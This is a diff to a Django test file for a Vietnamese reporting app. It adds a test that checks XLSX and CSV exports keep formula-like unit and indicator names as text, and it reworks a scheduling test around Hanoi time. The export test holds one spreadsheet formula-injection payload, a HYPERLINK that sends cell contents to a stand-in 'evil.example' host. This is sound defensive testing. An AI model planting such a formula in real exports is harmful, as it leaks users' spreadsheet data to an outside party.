@@ -25,10 +25,11 @@ from coordination.models import (
 )
 from coordination.services import AlreadyDone, deadlines_scan, report_save_draft
 from notifications.models import Notification
-from org.models import Structure
+from org.models import Structure, Unit
 from workflows import reporting, services
 from workflows.flows import DirectiveFlow, UnitAssignmentFlow
 
+from ..clock import hanoi
 from .helpers import open_task
 from .reporting_helpers import (
     COMMUNES,
@@ -379,6 +380,27 @@ def test_xlsx_totals_equal_the_sums_of_accepted_reports(period, user, client):
     assert Decimal(lines[-1][5 + codes.index("sms_sent")]) == _sum(accepted, "sms_sent")
 
 
+def test_exports_write_formulas_as_text_and_figures_as_numbers(period, user, client):
+    """Unit and indicator names come from admin: one that starts like a formula stays text in XLSX and CSV."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    Unit.objects.filter(structure=Structure.CURRENT, codename=COMMUNES[0]).update(name=formula)
+    period.indicators[2]["name"] = "+1+1"  # clusters_total, frozen into the period
+    period.save(update_fields=["indicators"])
+    _walk_to_accepted(period, user)
+    client.force_login(user("phongtt"))
+    book = load_workbook(io.BytesIO(client.get(f"/coordination/reports/{period.pk}/export.xlsx").content))
+    sheet = book["Xã, phường"]
+    first = next(sheet.iter_rows(min_row=3, max_row=3))
+    assert first[1].value == "'" + formula and first[1].data_type == "s"
+    assert sheet.cell(row=2, column=8).value == "'+1+1 (cụm)"
+    assert first[7].value == figures(1)["clusters_total"] and first[7].data_type == "n"
+    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
+    text = client.get(f"/coordination/reports/{period.pk}/export.csv").content.decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[0][7] == "'+1+1 (cụm)" and lines[1][1] == "'" + formula
+    assert lines[1][7] == str(figures(1)["clusters_total"])
+
+
 def test_aggregate_and_completeness_pages(period, user, client):
     _walk_to_accepted(period, user)
     client.force_login(user("giamdoc"))
@@ -417,22 +439,34 @@ def test_late_unit_is_reminded_once_and_escalated(period, user, django_capture_o
 
 
 def test_schedule_opens_the_period_once_on_its_day(org, user, django_capture_on_commit_callbacks):
+    """The hourly job reads today's date in Hanoi: the clock is set for each step."""
     from workflows.tasks import reporting_periods_open_job
 
+    def job() -> list[int]:
+        with django_capture_on_commit_callbacks(execute=True):
+            return reporting_periods_open_job.call_local()
+
     ReportingSchedule.objects.update(structure=Structure.CURRENT)
-    assert reporting.periods_open_due(date(2025, 5, 20)) == []
-    with django_capture_on_commit_callbacks(execute=True):
-        opened = reporting.periods_open_due(date(2025, 5, 31))
-    assert [(p.kind, p.year, p.cutoff_date, p.due_date) for p in opened] == [
-        ("half_year", 2025, date(2025, 5, 30), date(2025, 6, 6))]
-    assert opened[0].opened_by.username == "quanly"  # the division's leader, who may approve
-    assert opened[0].directive.assignments.count() == 4
-    with django_capture_on_commit_callbacks(execute=True):
-        assert reporting.periods_open_due(date(2025, 6, 2)) == []
-        reporting_periods_open_job.call_local()
-    assert ReportingPeriod.objects.count() == 1
-    with django_capture_on_commit_callbacks(execute=True):  # a missed opening day is caught up before the due date
-        assert [p.kind for p in reporting.periods_open_due(date(2025, 12, 3))] == ["annual"]
+    with time_machine.travel(hanoi(2025, 5, 20), tick=False) as clock:
+        assert job() == []
+        clock.move_to(hanoi(2025, 5, 30, 23, 59))
+        assert job() == []
+        clock.move_to(hanoi(2025, 5, 31, 0, 7))  # still 30/5 in UTC: the opening day is Hanoi's
+        opened = ReportingPeriod.objects.filter(pk__in=job())
+        assert [(p.kind, p.year, p.cutoff_date, p.due_date) for p in opened] == [
+            ("half_year", 2025, date(2025, 5, 30), date(2025, 6, 6))]
+        assert opened[0].opened_by.username == "quanly"  # the division's leader, who may approve
+        assert opened[0].directive.assignments.count() == 4
+        clock.move_to(hanoi(2025, 6, 2))
+        assert job() == []
+        assert ReportingPeriod.objects.count() == 1
+        clock.move_to(hanoi(2025, 6, 7))  # past the due date: a half-year period not opened by then never is
+        ReportingPeriod.objects.all().delete()
+        assert job() == []
+        clock.move_to(hanoi(2025, 12, 3))  # a missed opening day is caught up before the due date
+        assert [p.kind for p in ReportingPeriod.objects.filter(pk__in=job())] == ["annual"]
+    # An explicit day is the same decision without the clock.
+    assert reporting.periods_open_due(date(2025, 12, 4)) == []
 
 
 def test_admin_lists_the_seeded_indicators(demo, client, user):
